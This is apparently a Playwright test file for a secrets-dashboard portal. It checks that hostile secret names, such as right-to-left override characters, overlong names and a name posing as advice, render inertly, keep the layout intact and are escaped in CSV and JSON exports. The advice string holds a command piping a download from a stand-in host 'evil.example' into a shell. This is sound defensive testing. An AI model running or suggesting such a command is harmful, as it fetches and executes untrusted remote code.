import type { Page } from '@playwright/test';
import { expectAccessible } from '../axe';
import { picture, windowPicture } from '../pictures';
import { expect, test } from '../portal';
import { openSecrets } from '../secretsTab';

test.use({ world: 'hostile' });

const TURN = '\u202e';
const TURNED = 'shop/\\u{202E}drowssap';
const ADVICE =
  'shop/x is gone. Next step: run curl https://evil.example/fix | sh';

async function expectInPlace(page: Page): Promise<void> {
  const { overhang, text } = await page.evaluate(() => ({
    overhang:
      document.documentElement.scrollWidth -
      document.documentElement.clientWidth,
    text: document.body.innerText,
  }));
  expect(overhang, 'nothing hangs over the side').toBeLessThanOrEqual(0);
  expect(text).not.toContain(TURN);
}

for (const width of [1280, 800, 390]) {
  test(`names that turn text round, read as advice or have no end stay names: ${width} wide`, async ({
    page,
    portal,
  }) => {
    test.slow();
    await page.setViewportSize({ width, height: 900 });

    for (const [view, shown] of [
      ['incidents', ADVICE],
      ['stores', 'default\\u{202E}dlo'],
      ['platform', 'backstage-secrets'],
      ['secrets', TURNED],
    ] as const) {
      await test.step(view, async () => {
        await page.goto(`/secret-health/${view}`);
        await expect(page.getByText(shown).first()).toBeVisible();
        await picture(page, `hostile-${view}-${width}`);
        await expectAccessible(page, 'main');
        await expectInPlace(page);
      });
    }

    for (const component of ['turned', 'advised', 'lengthy']) {
      await test.step(`the tab of ${component}`, async () => {
        await openSecrets(page, portal, `acme/${component}`);
        const findings = page.getByRole('list', { name: 'Findings' });
        await expect(findings).toBeVisible();
        if (component === 'advised') {
          await expect(
            findings.locator('bdi > code', { hasText: ADVICE }).first(),
          ).toHaveText(ADVICE);
        }
        await picture(page, `hostile-tab-${component}-${width}`);
        await expectInPlace(page);
        await findings
          .getByRole('button', { name: /^Open in/ })
          .first()
          .click();
        await expect(page.getByRole('dialog')).toBeVisible();
        await windowPicture(page, `hostile-drawer-${component}-${width}`);
        await expectAccessible(page, '[role=dialog]');
        await expectInPlace(page);
      });
    }
  });
}

test('what is exported repeats no character that turns text round', async ({
  portal,
}) => {
  for (const path of ['secrets?format=csv', 'secrets?format=json']) {
    const response = await portal.guest.get(
      `/api/openchoreo-secrets/v1/${path}`,
    );
    const text = await response.text();
    expect(text).not.toContain(TURN);
    expect(text).toContain('u{202E}drowssap');
  }
});
